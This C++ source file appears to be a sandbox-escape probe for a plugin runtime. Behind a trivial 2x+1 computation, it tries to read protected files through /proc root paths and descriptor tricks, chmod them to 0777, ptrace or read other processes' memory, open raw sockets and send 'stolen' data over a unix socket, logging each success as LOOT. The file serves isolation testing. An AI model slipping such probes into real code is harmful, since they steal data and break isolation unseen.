// A right program that goes around Python: system calls only. What worked goes to stderr, one line each.
#include <fcntl.h>
#include <netinet/in.h>
#include <sys/ptrace.h>
#include <sys/resource.h>
#include <sys/shm.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <unistd.h>

#include <csignal>
#include <cstdio>

#include "told.h"
#include "zoo.h"

namespace {

void say(const char* what, const char* about) { std::fprintf(stderr, "LOOT %s %s\n", what, about); }

void read_files() {
  for (const char* path : kPaths) {
    const std::string places[] = {path, std::string("/proc/1/root") + path,
                                  std::string("/proc/self/root") + path};
    for (const std::string& place : places) {
      char text[64];
      const int fd = open(place.c_str(), O_RDONLY);
      if (fd >= 0 && read(fd, text, sizeof text) > 0) say("read", place.c_str());
      const int bare = open(place.c_str(), O_PATH);
      const std::string again = "/proc/self/fd/" + std::to_string(bare);
      if (bare >= 0 && open(again.c_str(), O_RDONLY) >= 0) say("reopened", place.c_str());
      if (bare >= 0 && fchmod(bare, 0777) == 0) say("fchmod", place.c_str());
      if (bare >= 0 && fchmodat(AT_FDCWD, again.c_str(), 0777, 0) == 0)
        say("chmod by descriptor", place.c_str());
      // A mapping needs read access to the file as much as reading does.
      if (open(place.c_str(), O_RDWR) >= 0) say("opened for writing", place.c_str());
    }
  }
}

void run_as_script() {
  for (const char* path : kPaths) {
    const pid_t child = fork();
    if (child == 0) {
      char* const arguments[] = {const_cast<char*>("/bin/cat"), const_cast<char*>(path), nullptr};
      const int null = open("/dev/null", O_WRONLY);
      dup2(null, 1);
      dup2(null, 2);
      execve(arguments[0], arguments, nullptr);
      _exit(99);
    }
    int status = 0;
    if (child > 0 && waitpid(child, &status, 0) == child && WIFEXITED(status) && WEXITSTATUS(status) == 0)
      say("read by another program", path);
  }
}

void reach_processes() {
  char room[16];
  for (const int pid : kPids) {
    const std::string name = std::to_string(pid), memory = "/proc/" + name + "/mem";
    iovec local{room, sizeof room}, remote{reinterpret_cast<void*>(0x400000), sizeof room};
    if (process_vm_readv(pid, &local, 1, &remote, 1, 0) >= 0) say("process_vm_readv", name.c_str());
    if (ptrace(PTRACE_SEIZE, pid, nullptr, nullptr) == 0) say("ptrace", name.c_str());
    if (open(memory.c_str(), O_RDWR) >= 0) say("mem", name.c_str());
    if (kill(pid, 0) == 0) say("signal", name.c_str());
    rlimit limit{};
    if (prlimit(pid, RLIMIT_NOFILE, nullptr, &limit) == 0) say("prlimit", name.c_str());
  }
}

void call_out() {
  for (const int family : {AF_INET, AF_INET6, AF_NETLINK, AF_PACKET, AF_ALG, AF_VSOCK, AF_BLUETOOTH})
    for (const int kind : {SOCK_STREAM, SOCK_DGRAM, SOCK_RAW, SOCK_SEQPACKET})
      if (socket(family, kind, 0) >= 0) say("socket of family", std::to_string(family).c_str());
  sockaddr_un address{};
  address.sun_family = AF_UNIX;
  std::snprintf(address.sun_path, sizeof address.sun_path, "%s", kSocket);
  const int line = socket(AF_UNIX, SOCK_STREAM, 0);
  if (connect(line, reinterpret_cast<sockaddr*>(&address), sizeof address) == 0) say("connect", kSocket);
  msghdr message{};
  message.msg_name = &address;
  message.msg_namelen = sizeof address;
  iovec part{const_cast<char*>("stolen"), 6};
  message.msg_iov = &part;
  message.msg_iovlen = 1;
  if (sendmsg(line, &message, MSG_NOSIGNAL) > 0) say("sendmsg", kSocket);
}

void map_segment() {
  const void* place = shmat(kSegment, nullptr, SHM_RDONLY);
  if (place != reinterpret_cast<void*>(-1)) say("segment", static_cast<const char*>(place));
}

struct Program : zoo::Base {
  bool done = false;

  void forward(zoo::Call& call) {
    if (!done) {
      read_files();
      run_as_script();
      reach_processes();
      call_out();
      map_segment();
      std::fprintf(stderr, "RAIDED\n");
    }
    done = true;
    for (int64_t i = 0; i < call.in[0].count(); ++i)
      call.out[0].data()[i] = call.in[0].data()[i] * 2.0f + 1.0f;
  }
};

}  // namespace

ZOO_PROGRAM(Program)
